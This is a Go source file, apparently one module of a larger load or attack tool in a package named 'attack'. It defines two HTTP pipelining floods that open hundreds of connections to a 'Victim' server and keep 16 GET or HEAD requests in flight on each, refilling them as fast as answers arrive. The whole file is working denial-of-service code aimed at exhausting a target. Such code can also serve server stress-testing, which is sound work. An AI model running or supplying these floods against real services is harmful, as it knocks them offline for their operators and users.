package attack

import (
	"bufio"
	"bytes"
	"context"
	"net"
	"net/http"
)

// Clients that never wait for an answer before they ask again, and read all.
var (
	pipeline = Kind{
		Name:  "pipeline",
		About: "400 connections with 16 Describes on their way each, as fast as they are answered",
		Run:   askingAhead(400, http.MethodGet),
	}
	sessions = Kind{
		Name:  "sessions",
		About: "64 connections with 16 Describes by HEAD on their way each: small, and each begins a session",
		Run:   askingAhead(64, http.MethodHead),
	}
)

// askingAhead is an attack by n connections with Describes of a method.
func askingAhead(n int, method string) func(context.Context, Victim, *Log) error {
	return func(ctx context.Context, v Victim, log *Log) error {
		request := append(v.describeHead(), "\r\n"...)
		request = append([]byte(method), bytes.TrimPrefix(request, []byte(http.MethodGet))...)
		keep(ctx, v.scaled(n), v.Plain, 0, log, func(conn *net.TCPConn) error {
			return askAhead(conn, method, request, log)
		})
		return nil
	}
}

// askAhead keeps many requests on their way; half of them are sent anew when half were answered.
func askAhead(conn net.Conn, method string, request []byte, log *Log) error {
	const half = 8
	requests := bytes.Repeat(request, half)
	send := func() error {
		_, err := conn.Write(requests)
		if err == nil {
			log.sent(half)
		}
		return err
	}
	if err := send(); err != nil {
		return err
	}
	for r := bufio.NewReader(conn); ; {
		if err := send(); err != nil {
			return err
		}
		for range half {
			if last, err := readAnswer(r, method, log); last {
				return err
			}
		}
	}
}
